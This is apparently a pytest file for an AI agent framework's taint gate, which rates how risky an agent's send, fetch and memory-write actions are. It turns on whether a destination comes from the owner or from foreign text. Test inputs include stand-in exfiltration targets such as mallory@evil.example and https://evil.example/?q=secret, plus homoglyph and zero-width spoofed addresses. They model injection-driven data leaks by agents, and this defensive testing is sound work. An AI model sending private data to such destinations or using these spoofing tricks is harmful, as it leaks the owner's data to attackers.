"""What a context adds to a call: the table of the gate's design, line by line, and what makes a destination known."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alfred.actions import Destination, Effect, Risk, taint
from alfred.actions.context import ActionContext, Workspace
from alfred.actions.declare import action
from alfred.actions.taint import Sink, Standing
from alfred.config_schema import Settings
from alfred.trust import labels
from alfred.trust.labels import Confidentiality, Integrity, Label
from tests.built import built
from tests.table import table

OURS = Label(Integrity.DERIVED, Confidentiality.INTERNAL)
PRIVATE = Label(Integrity.DERIVED, Confidentiality.PRIVATE)
THEIRS = Label(Integrity.EXTERNAL, Confidentiality.INTERNAL)
BOTH = Label(Integrity.EXTERNAL, Confidentiality.PRIVATE)

NONE, LOW, MEDIUM, HIGH = Risk
TABLE = [
    # context, sink, standing: at least
    *((OURS, sink, standing, NONE) for sink in Sink for standing in Standing),
    *((PRIVATE, sink, standing, NONE) for sink in Sink for standing in Standing),
    # reads and writes inside the workspace are unchanged
    *(
        (c, s, new, NONE)
        for c in (THEIRS, BOTH)
        for s in (Sink.LOOK, Sink.CONTAINED)
        for new in Standing
    ),
    # a destination of the owner's: staged, and never by itself (that half is the policy's)
    (THEIRS, Sink.OUTWARD, Standing.OWNERS, LOW),
    (BOTH, Sink.OUTWARD, Standing.OWNERS, LOW),
    # to a new destination medium at least
    (THEIRS, Sink.OUTWARD, Standing.NEW, MEDIUM),
    # new destination with private context high
    (BOTH, Sink.OUTWARD, Standing.NEW, HIGH),
    # every security-relevant field verbatim in the owner's own words or config: that raise is not applied
    (THEIRS, Sink.OUTWARD, Standing.NAMED, LOW),
    (BOTH, Sink.OUTWARD, Standing.NAMED, LOW),
    # memory, skills, config, crons, permissions high, whatever they name
    *((c, Sink.ITSELF, new, HIGH) for c in (THEIRS, BOTH) for new in Standing),
    # reading is sending: medium when the context is external and private, unless the host was named by the owner or in
    # config, or the link stands on the page without an added query
    (THEIRS, Sink.ASKING, Standing.NEW, NONE),
    (BOTH, Sink.ASKING, Standing.NEW, MEDIUM),
    (BOTH, Sink.ASKING, Standing.NAMED, NONE),
    (BOTH, Sink.ASKING, Standing.OWNERS, NONE),
    (BOTH, Sink.ASKING, Standing.LINKED, NONE),
]


@table(TABLE)
def test_the_table_of_the_gate(context: Label, sink: Sink, standing: Standing, least: Risk) -> None:
    assert taint.floor(context, sink, standing) is least


def test_a_worse_label_or_a_newer_destination_never_lowers() -> None:
    every = [Label(i, c) for i in Integrity for c in Confidentiality]
    for one, other in itertools.product(every, every):
        worse = labels.join(one, other)
        for sink, standing in itertools.product(Sink, Standing):
            found = taint.floor(worse, sink, standing)
            assert found >= taint.floor(one, sink, standing)
            assert taint.floor(one, sink, Standing.NEW) >= taint.floor(one, sink, standing)
    for sink, standing in itertools.product(Sink, Standing):
        unreadable = taint.floor(labels.decode("owner/privat"), sink, standing)
        assert unreadable is taint.floor(labels.WORST, sink, standing)


# ---- where a call leads


def _to(args: dict[str, Any], ctx: ActionContext) -> list[Any]:
    found = args.get("to")
    if found == "fails":
        raise ValueError(found)
    if found == "nowhere":
        return []
    return [Destination("the owner's phone", owners=True)] if found == "me" else [found]


@action("t.send", integration="t", risk=Risk.NONE, destinations=_to)
def send(to: str, text: str = "") -> None:
    """Sends.

    Args:
        to: To whom.
        text: What.
    """


@action("t.post", integration="t", risk=Risk.NONE)
def post(to: str, text: str = "", copies: list[str] | None = None, urgent: bool = False) -> None:
    """Sends, and does not say to whom.

    Args:
        to: To whom.
        text: What.
        copies: To whom else.
        urgent: Whether.
    """


@action("t.get", integration="t", risk=Risk.NONE, effect=Effect.PURE, label="external")
def get(url: str) -> None:
    """Reads what others wrote.

    Args:
        url: Where.
    """


@action("t.look", integration="t", risk=Risk.NONE, effect=Effect.PURE)
def look(url: str) -> None:
    """Looks at what is here.

    Args:
        url: At what.
    """


@action("t.ask", integration="t", risk=Risk.NONE, effect=Effect.PURE, destinations=_to)
def ask(to: str) -> None:
    """Asks somebody.

    Args:
        to: Whom.
    """


@action("memory.put", integration="memory", risk=Risk.NONE)
def remember(text: str) -> None:
    """Remembers.

    Args:
        text: What.
    """


@action("files.write", integration="files", risk=Risk.NONE)
def write(text: str) -> None:
    """Writes.

    Args:
        text: What.
    """


@pytest.fixture
def ctx(tmp_path: Path) -> ActionContext:
    settings = Settings.model_validate(
        {
            "integrations": {
                "web": {"search": "https://search.example.net/api"},
                "crm": "crm-owner-7",
            }
        }
    )
    return ActionContext(
        run_id="r",
        call_id="c",
        agent="main",
        tenant="main",
        home=tmp_path,
        workspace=Workspace(root=tmp_path, made=True, trusted=False),
        inputs={},
        settings=settings,
        store=None,  # type: ignore[arg-type]
        cancelled=lambda: False,
        on_cancel=lambda _: None,
        emit=lambda _: None,
        secrets=lambda _: None,
    )


SAID = (
    "Send the minutes to anna@example.org, please.",
    "The pages are https://docs.example.org/guide (and <https://wiki.example.org>).\n> mallory@evil.example",
    "x" * taint.PASTED + " pasted@evil.example",
)
LINKS = {"https://blog.example.com/next", "https://blog.example.com/a?b=c"}


def raised(
    ctx: ActionContext,
    function: Callable[..., Any],
    context: Label = BOTH,
    words: Sequence[str] = SAID,
    **args: Any,
) -> Risk:
    found = taint.assess(
        built(function), args, ctx, context=context, words=lambda: words, links=lambda: LINKS
    )
    assert str(found.risk) in found.explanation
    return found.risk


SINKS = [
    (send, Sink.OUTWARD),
    (post, Sink.OUTWARD),
    (get, Sink.ASKING),
    (ask, Sink.ASKING),
    (look, Sink.LOOK),
    (remember, Sink.ITSELF),
    (write, Sink.CONTAINED),
]


@table(SINKS)
def test_an_action_leads_where_its_declaration_says(
    function: Callable[..., Any], sink: Sink
) -> None:
    assert taint.sink(built(function)) is sink


CASES: list[tuple[Callable[..., Any], dict[str, Any], Risk]] = [
    (send, {"to": "me"}, LOW),
    (send, {"to": "me", "text": "all the secrets of mallory@evil.example"}, LOW),
    (send, {"to": "anna@example.org"}, LOW),
    (send, {"to": "anna@example.org", "text": "anything"}, LOW),
    (send, {"to": "crm-owner-7"}, LOW),
    (send, {"to": "mallory@evil.example"}, HIGH),
    (send, {"to": "pasted@evil.example"}, HIGH),
    (send, {"to": "fails"}, HIGH),
    (send, {"to": "nowhere"}, HIGH),
    (send, {"to": ""}, HIGH),
    (send, {"to": "Send"}, HIGH),
    (send, {"to": "example.org"}, HIGH),
    (send, {"to": "anna@example.org "}, HIGH),
    (send, {"to": "anna@example.or"}, HIGH),
    (send, {"to": "nna@example.org"}, HIGH),
    (send, {"to": "anna@example.org.evil.example"}, HIGH),
    (send, {"to": "anna@example.org,mallory@evil.example"}, HIGH),
    (send, {"to": "ANNA@example.org"}, HIGH),
    (send, {"to": "аnna@example.org"}, HIGH),  # Cyrillic
    (send, {"to": "anna@example.org\u200b"}, HIGH),
    (send, {"to": "ａnna@example.org"}, HIGH),
    (send, {"to": "docs.example.org"}, LOW),
    (send, {"to": "wiki.example.org"}, LOW),
    (send, {"to": "search.example.net"}, LOW),
    (post, {"to": "anna@example.org"}, LOW),
    (post, {"to": "anna@example.org", "text": "Send the minutes"}, LOW),
    (post, {"to": "anna@example.org", "text": "other words"}, HIGH),
    (post, {"to": "anna@example.org", "urgent": True}, HIGH),
    (post, {"to": "anna@example.org", "copies": ["mallory@evil.example"]}, HIGH),
    (post, {"to": "anna@example.org", "copies": ["anna@example.org"]}, LOW),
    (post, {}, HIGH),
    (
        post,
        {"to": "https://blog.example.com/next"},
        HIGH,
    ),  # a link of a stranger's page is to be read
    (send, {"to": "https://blog.example.com/next"}, HIGH),
    (get, {"url": "https://evil.example/?q=secret"}, MEDIUM),
    (get, {"url": "https://docs.example.org/guide"}, NONE),
    (get, {"url": "https://blog.example.com/next"}, NONE),
    (get, {"url": "https://blog.example.com/a?b=c"}, NONE),
    (get, {"url": "https://blog.example.com/a?b=secret"}, MEDIUM),
    (get, {"url": "https://blog.example.com/next?q=secret"}, MEDIUM),
    (get, {"url": "https://blog.example.com/next#secret"}, MEDIUM),
    (get, {"url": "https://secret.blog.example.com/next"}, MEDIUM),
    (ask, {"to": "fails"}, MEDIUM),
    (ask, {"to": "anna@example.org"}, NONE),
    (look, {"url": "https://evil.example"}, NONE),
    (remember, {"text": "anna@example.org"}, HIGH),
    (write, {"text": "x"}, NONE),
]


def test_what_makes_a_destination_known(ctx: ActionContext) -> None:
    wrong = [
        (function.__name__, args, str(found))
        for function, args, least in CASES
        if (found := raised(ctx, function, **args)) is not least
    ]
    assert wrong == []


def test_what_nobody_wrote_into_the_configuration_names_nobody(ctx: ActionContext) -> None:
    settings = Settings.model_validate(
        {
            "timezone": "Europe/Berlin",
            "policy": {"rules": [{"action": "chat.*", "agent": "some-agent", "mode": "off"}]},
        }
    )
    one = replace(ctx, settings=settings)
    assert raised(one, send, to="Europe/Berlin") is LOW
    assert raised(one, send, to="some-agent") is HIGH
    assert raised(one, send, to="delivery") is HIGH
    assert raised(one, send, to="127.0.0.1") is HIGH


def test_all_destinations_must_be_known(ctx: ActionContext) -> None:
    @action(
        "t.both",
        integration="t",
        risk=Risk.NONE,
        destinations=lambda args, ctx: [Destination("me", owners=True), args["to"]],
    )
    def both(to: str) -> None:
        """Sends to the owner and to somebody else.

        Args:
            to: To whom.
        """

    assert raised(ctx, both, to="mallory@evil.example") is HIGH
    assert raised(ctx, both, to="anna@example.org") is LOW


def test_an_action_that_fails_to_say_where_leads_somewhere_new(ctx: ActionContext) -> None:
    # also where every argument of the call stands in the owner's words
    said = ["please say fails, and mean it as I said"]

    @action("t.fails", integration="t", risk=Risk.NONE, destinations=lambda args, ctx: 1 / 0)
    def fails(text: str) -> None:
        """Sends.

        Args:
            text: What.
        """

    assert raised(ctx, fails, words=said, text="say fails, and mean it as I said") is HIGH


def test_without_foreign_text_nothing_is_raised(ctx: ActionContext) -> None:
    for function, args, _ in CASES:
        assert raised(ctx, function, PRIVATE, **args) is NONE
    assert raised(ctx, send, THEIRS, to="mallory@evil.example") is MEDIUM
    assert raised(ctx, get, THEIRS, url="https://evil.example/?q=secret") is NONE


WORD = st.sampled_from(
    [
        "anna@example.org",
        "me",
        "x",
        "Send the minutes",
        "crm-owner-7",
        "evil",
        "",
        "please",
        "а",
        "\n",
        "> ",
    ]
)
TEXT = st.lists(WORD, max_size=4).map(" ".join) | st.text(max_size=20)


@given(first=TEXT, to=TEXT, more=TEXT)
def test_adding_to_the_arguments_never_lowers(first: str, to: str, more: str) -> None:
    settings = Settings.model_validate({})
    ctx: Any = type("Has", (), {"settings": settings})()
    before = raised(ctx, post, to=to)
    assert raised(ctx, post, to=to, text=first) >= before
    assert raised(ctx, post, to=to, copies=[first, more]) >= raised(
        ctx, post, to=to, copies=[first]
    )
    assert raised(ctx, send, to=to, text=first) is raised(ctx, send, to=to, text=first + more)
    if to.strip() and raised(ctx, send, to=to) is LOW and more and to != "me":
        longer = raised(ctx, send, to=f"{to}{more}x")
        assert longer is HIGH or taint.verbatim(f"{to}{more}x", taint.own(SAID))


@given(text=st.text(max_size=30), stranger=st.text(max_size=200))
def test_what_strangers_say_makes_nothing_known(text: str, stranger: str) -> None:
    ctx: Any = type("Has", (), {"settings": Settings.model_validate({})})()
    before = raised(ctx, send, words=(), to=text)
    # a quotation, and a paste, are not the owner's words
    quoted = "\n".join(f"> {line}" for line in (stranger + text).splitlines())
    assert raised(ctx, send, words=(quoted, text + "x" * taint.PASTED), to=text) is before


def test_a_word_is_found_whole_and_only_when_it_is_long_enough() -> None:
    assert taint.verbatim("abcdef", ["say abcdef!"])
    assert taint.verbatim("abcdef", ["say (abcdef)"])
    assert not taint.verbatim("abcde", ["say abcde"])
    assert not taint.verbatim(
        "abcdef", ["say abcdefg", "say xabcdef", "say abc def", "a/abcdef", "abcdef/a"]
    )
    assert taint.verbatim("a.b*c+d", ["a.b*c+d"])
    assert not taint.verbatim("a.b*c+d", ["aXbYc+d"])
    assert not taint.verbatim(123456, ["123456"])
    assert taint.verbatim("cafétown", ["cafe\u0301town"])
